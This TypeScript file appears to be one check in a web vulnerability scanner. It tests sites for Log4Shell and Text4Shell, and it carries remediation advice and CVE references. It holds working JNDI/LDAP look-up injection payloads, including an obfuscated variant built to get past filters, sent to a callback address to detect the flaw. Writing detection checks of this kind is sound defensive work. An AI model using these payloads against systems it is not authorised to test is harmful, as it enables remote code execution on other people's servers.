import { observationAt } from './answers.ts';
import { firstCalled } from './callback.ts';
import type { ActiveCheck } from './check.ts';

/**
 * As the flaw's first filters had it, then as those were got around, and Commons Text's own; the two
 * libraries leave each other's look-ups alone, so that one line tries all.
 */
const lookUps: readonly ((url: string) => string)[] = [
  (url) => `\${jndi:${url.replace('http:', 'ldap:')}}`,
  (url) => `\${\${lower:j}ndi:\${lower:l}dap:${url.replace('http:', '')}}\${url:UTF-8:${url}}`,
];

export const log4shell: ActiveCheck = {
  id: 'log4shell',
  kind: 'active',
  title: 'A line in your server’s log can make it run a stranger’s program',
  technicalName: 'Log4Shell / Text4Shell (JNDI and string look-ups)',
  severity: 'high',
  cwe: 'CWE-917',
  flaw: 'lookup',
  awaitsCall: true,
  pci: ['6.3.3'],
  minLevel: 'log4shell',
  advice: {
    risk: 'It is enough that the server writes down what a visitor sent: the server then fetches a program from the stranger and runs it.',
    fix: 'Update Log4j to 2.17.1 or newer, and Commons Text to 1.10.0 or newer, in every application on the server; look in the log for who has used it already.',
    references: ['CVE-2021-44228', 'CVE-2021-45046', 'CVE-2022-42889', 'CWE-917'],
  },
  appliesTo: () => true,
  async probe(point, prober) {
    const called = await firstCalled(point, prober, lookUps);
    if (called === undefined) return [];
    const evidence = `Sent ${called.value} as "${point.name}"; the site's server called that address by ${called.by}.`;
    return [observationAt(point, evidence)];
  },
};
